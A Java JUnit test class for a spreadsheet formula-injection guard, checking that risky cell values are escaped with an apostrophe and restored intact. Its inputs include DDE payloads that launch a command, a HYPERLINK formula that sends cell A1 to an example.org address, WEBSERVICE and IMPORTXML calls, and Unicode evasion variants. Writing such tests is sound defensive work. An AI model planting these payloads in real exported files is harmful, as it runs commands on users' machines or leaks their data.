package org.rolebridge.tabular;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FormulaGuardTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://example.org?x=\"&A1,\"Open\")",
                "=IMPORTXML(CONCAT(\"http://example.org\"),\"//a\")",
                "=WEBSERVICE(\"http://example.org\")",
                "=DDE(\"cmd\";\"/C calc\";\"x\")",
                "+1+cmd|' /C calc'!A0",
                "-1+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!D2",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\rtext",
                "\ntext",
                "\r\n=1+1",
                "   =1+1",
                "\u00A0=1+1",
                "\uFEFF=1+1",
                "\u200B=1+1",
                "\u0001=1+1",
                "＝1+1",
                "＋1",
                "－1",
                "＠SUM(1)",
                "\u22121",
                "'=1+1",
                "''=1+1",
                "' =1+1",
                "+44 20 7946 0000",
                "-"
            })
    void guardsAndGivesBack(String payload) {
        String guarded = FormulaGuard.guard(payload);

        assertThat(guarded).isEqualTo("'" + payload);
        assertThat(FormulaGuard.unguard(guarded)).isEqualTo(payload);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "St Mary's", "'quoted'", "1 = 1", "a@example.org", "2026-11-23", " text", "'"})
    void leavesHarmlessTextAlone(String text) {
        assertThat(FormulaGuard.guard(text)).isEqualTo(text);
    }

    @Test
    void givesBackEveryText() {
        Random random = new Random(42);
        String alphabet = "'=+-@ \ta＝";
        for (int i = 0; i < 100_000; i++) {
            StringBuilder text = new StringBuilder();
            random.ints(random.nextInt(6), 0, alphabet.length()).forEach(at -> text.append(alphabet.charAt(at)));

            assertThat(FormulaGuard.unguard(FormulaGuard.guard(text.toString())))
                    .isEqualTo(text.toString());
        }
    }
}
